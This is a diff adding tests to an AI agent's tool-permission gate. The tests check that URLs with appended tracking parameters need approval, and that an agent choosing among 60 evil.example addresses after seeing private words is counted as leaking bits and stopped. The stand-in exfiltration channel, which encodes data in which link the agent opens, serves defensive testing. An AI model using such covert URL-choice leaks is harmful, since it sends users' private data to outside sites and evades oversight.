@@ -105,6 +105,33 @@ describe('the gate below the tools', () => {
     },
   );
 
+  const SHOP = 'https://shop.example/a';
+  it.each(['?utm_source=4711', '#4711'])(
+    'asks before it opens what was typed with %s added to it [R11.6]',
+    async (more) => {
+      const openIn = async (url: string) => {
+        const run = researching(WEB, [calls('open_link', { url }), DONE], { other: allRelevant, notMine: NOT_MINE });
+        const grants = [{ tool: 'open_link', origin: 'https://shop.example' }];
+        const { state } = await finished(run.world, { ...SPEC, job: 'ask', goal: `Open ${SHOP}`, grants });
+        return { opened: run.world.opened, asks: listOpenAsks(state).length };
+      };
+      expect(await openIn(SHOP)).toEqual({ opened: [SHOP], asks: 0 });
+      expect(await openIn(SHOP + more)).toEqual({ opened: [], asks: 1 });
+    },
+  );
+
+  it('counts what the choice among typed addresses says, once private words stand in the prompt [R11.6]', async () => {
+    const urls = Array.from({ length: 60 }, (_, i) => `https://evil.example/${String(i)}`);
+    const turns = [3, 17, 44, 51, 6, 7].map((i) => calls('read_url', { ref: urls[i] }));
+    const run = researching(WEB, [{ text: 'Known.' }, ...turns, DONE], { other: allRelevant, notMine: NOT_MINE });
+    const asked = await finished(run.world, { ...SPEC, job: 'ask' });
+    const { frames, state } = await goOn(run.world, asked, { job: 'research', goal: `Elbe tide ${urls.join(' ')}` });
+    const read = run.fetched.filter((url) => urls.includes(url));
+    expect(read).toHaveLength(2);
+    expect(told(frames)).toBeCloseTo(2 * Math.log2(60));
+    expect(listOpenAsks(state)[0]).toMatchObject({ form: 'approval', call: { tool: 'read_url' } });
+  });
+
   it('lets all questions of a run tell sites at most 64 bits, each at most 16, and asks from there on [R11.6]', async () => {
     const reads = (question: number): Say => ({
       calls: Array.from({ length: 2 }, (_, i) => ({
